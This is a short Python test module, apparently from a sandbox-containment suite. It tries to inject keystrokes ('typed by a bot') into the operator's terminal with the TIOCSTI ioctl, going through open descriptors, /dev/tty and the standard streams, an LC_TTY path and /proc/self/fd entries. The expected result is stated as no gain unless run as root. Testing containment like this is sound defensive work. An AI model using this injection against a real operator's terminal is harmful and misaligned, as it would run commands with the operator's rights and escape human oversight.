"""Types into the operator's terminal: by its own path, by the usual names, by every descriptor that it has.

For a terminal that is not its own the kernel asks for root.

Gains at: none as root
"""

import fcntl
import os
import termios
from pathlib import Path

from attack import attack, first_gain

TYPED = b"typed by a bot"
NAMES = ("/dev/tty", "/dev/stdin", "/dev/stdout", "/dev/stderr")


def paths():
    """The test tells where the terminal is."""
    return [os.environ.get("LC_TTY", "/dev/tty"), *NAMES, *map(str, Path("/proc/self/fd").glob("*"))]


def type_by_path(path):
    terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        return type_into(terminal)
    finally:
        os.close(terminal)


def type_into(descriptor):
    for letter in TYPED:
        fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([letter]))
    return "keys"


def trial():
    return first_gain(type_into, range(64)) or first_gain(type_by_path, paths())


attack(trial)
